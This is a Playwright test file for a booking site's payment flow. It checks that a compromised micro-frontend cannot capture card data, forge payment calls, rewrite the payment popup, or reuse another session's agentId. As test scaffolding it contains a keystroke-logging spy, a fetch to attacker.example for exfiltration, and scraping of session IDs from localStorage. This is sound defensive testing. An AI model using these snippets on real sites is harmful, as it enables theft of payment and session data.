import { cards } from '../fixtures/cards.ts';
import { lucia } from '../fixtures/travellers.ts';
import { expect, test } from '../support/test.ts';

/** What a remote that went bad could do: run any code in the documents that load remotes. */
test.describe('a hostile remote', () => {
  test('cannot read the card: its code is not on the payment page, and the frame is out of reach @core', async ({
    page,
    journey,
  }) => {
    await journey.toSummary({ to: 'BCN' });
    await page.evaluate(() => {
      const spy = { typed: '' };
      Object.assign(window, { spy });
      document.addEventListener(
        'input',
        (event) => {
          if (event.target instanceof HTMLInputElement) spy.typed += event.target.value;
        },
        true,
      );
    });
    await journey.summary.fillContact();
    expect(await page.evaluate(() => Reflect.get(window, 'spy').typed)).toContain('example.com');

    await journey.summary.fillTraveller(1, lucia);
    const remoteFiles: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/r/mfe-')) remoteFiles.push(request.url());
    });
    await journey.summary.goToPayment();
    await journey.billing.fillAddress();
    await journey.billing.fillCard(cards.accepted);

    expect(await page.evaluate(() => 'spy' in window), 'the document is a new one').toBe(false);
    expect(remoteFiles, 'no file of any remote on the payment page').toEqual([]);
    const seen = await page.evaluate(() => {
      const frame = document.querySelector('iframe');
      let inside: string;
      try {
        inside = String(frame?.contentDocument?.body.innerHTML ?? null);
      } catch (error) {
        inside = String(error);
      }
      const inputs = [...document.querySelectorAll('input')].map((input) => input.value).join(' ');
      return { inside, inputs, origin: new URL(frame?.src ?? '').origin };
    });
    expect(seen.inside).toBe('null');
    expect(seen.inputs).not.toContain('4242');
    expect(seen.origin).not.toBe(new URL(page.url()).origin);
  });

  test('cannot pay with a card that was typed, whatever it calls', async ({
    context,
    journey,
    sandbox,
    watch,
  }) => {
    watch.allow(/status of 40\d/);
    const sentCards: string[] = [];
    context.on('request', (request) => {
      if (request.url().includes('create-payment-info')) sentCards.push(request.url());
    });
    await journey.toPayment({ to: 'BCN' });
    await journey.billing.fillCard(cards.neverPressed);
    // A page of the same origin, in which a remote that went bad runs.
    const bad = await context.newPage();
    await bad.goto('/es/user/my-journey');
    const codes = await bad.evaluate(async () => {
      const call = async (path: string, body: object) => {
        const reply = await fetch(`/api/user/session/${path}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
        return (await reply.json()) as { data?: Record<string, never>; error?: { code: string } };
      };
      const agentId = Object.values(localStorage)
        .join(' ')
        .match(/[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}/)?.[0];
      const { data: view } = await call('order-view', { agentId });
      const { amount, currency } = (view?.['total'] ?? {}) as unknown as { amount: number; currency: string };
      const order = { agentId, orderId: view?.['orderId'], amount, currency };
      const addresses = { returnUrl: `${location.origin}/es`, cancelUrl: `${location.origin}/es` };
      return [
        (await call('card/success', order)).error?.code,
        (await call('payment-direction', { ...order, ...addresses })).error?.code,
      ];
    });
    expect(codes).toEqual(['steps_missing', 'steps_missing']);
    expect(sentCards, 'the card stays in its frame until pay is pressed').toEqual([]);
    expect(await sandbox.paymentsBy(cards.neverPressed)).toEqual([]);
  });

  test('cannot open the payment page and rewrite it (COOP)', async ({ page, journey, context, watch }) => {
    // The trip has no travellers yet: there is nothing to pay, and the page says so.
    watch.allow(/status of 409/);
    await journey.toSummary({ to: 'BCN' });
    const opened = context.waitForEvent('page');
    await page.evaluate(() => {
      Object.assign(window, { victim: window.open('/es/booking/BillingSummary', 'victim') });
    });
    const popup = await opened;
    await popup.waitForURL(/\/booking\/BillingSummary/);
    await expect
      .poll(() => page.evaluate(() => Reflect.get(window, 'victim').closed), 'the link is cut')
      .toBe(true);
    const attempt = await page.evaluate(() => {
      const victim = Reflect.get(window, 'victim') as Window;
      try {
        victim.document.body.innerHTML = '<h1>stolen</h1>';
        return 'rewritten';
      } catch {
        return 'refused';
      }
    });
    expect(attempt).toBe('refused');
    await expect(popup.getByRole('heading', { name: 'stolen' })).toHaveCount(0);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
  });

  test('cannot send what it sees to another host', async ({ page, journey, watch }) => {
    watch.allow(/Content Security Policy|Failed to fetch|Refused to connect/);
    await journey.openHome();
    const refused = await page.evaluate(() =>
      fetch('https://attacker.example/?c=1').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(refused).toBe('refused');
  });
});

test('an agentId from elsewhere opens nothing without its cookie (B-03)', async ({
  page,
  journey,
  playwright,
  baseURL,
}) => {
  const start = page.waitForRequest(/\/api\/user\/session\/start/);
  await journey.toSummary({ to: 'BCN' });
  const { agentId } = (await start).postDataJSON() as { agentId: string };
  expect(agentId).toMatch(/.{8,}/);
  await journey.summary.fillContact();

  const stranger = await playwright.request.newContext({
    ...(baseURL && { baseURL }),
    extraHTTPHeaders: { origin: baseURL ?? '', 'x-forwarded-for': '10.66.66.66' },
  });
  for (const path of ['order-view', 'card-handle', 'customer']) {
    const reply = await stranger.post(`/api/user/session/${path}`, { data: { agentId } });
    expect([400, 401, 403], path).toContain(reply.status());
    expect(await reply.text()).not.toContain('example.com');
  }
  await stranger.dispose();
});
